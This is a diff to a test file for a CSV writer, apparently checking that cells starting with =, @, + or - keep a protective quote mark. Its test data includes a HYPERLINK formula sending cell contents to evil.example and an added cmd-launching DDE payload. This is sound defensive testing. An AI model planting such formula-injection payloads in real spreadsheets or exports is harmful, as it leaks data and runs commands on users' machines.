@@ -324,6 +324,9 @@ describe('a CSV written for re-import (output.csvTextMark "none")', () => {
     ['a formula keeps its mark: no importer or spreadsheet must run it', text('=HYPERLINK("http://evil.example/?"&A1)'), `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
     ['an @ formula keeps its mark', text('@SUM(A1:A9)'), `"'@SUM(A1:A9)"`],
     ['a line break before a formula keeps its mark', text('\n=1+1'), `"'\n=1+1"`],
+    ['a phone with its area code in brackets is written as cleaned', text('+1 (971) 555-0133'), '+1 (971) 555-0133'],
+    ['a plus that calls a function keeps its mark', text('+SUM(A1:A9)'), `"'+SUM(A1:A9)"`],
+    ['a minus that starts another program keeps its mark', text("-2+3+cmd|' /C calc'!A0"), `"'-2+3+cmd|' /C calc'!A0"`],
     ['a text formula of its own text is written as its text', { kind: 'text', value: '01002', formula: '="01002"' }, '01002'],
   ])('%s', (_, cell, expected) => {
     expect(none(cell)).toBe(expected);
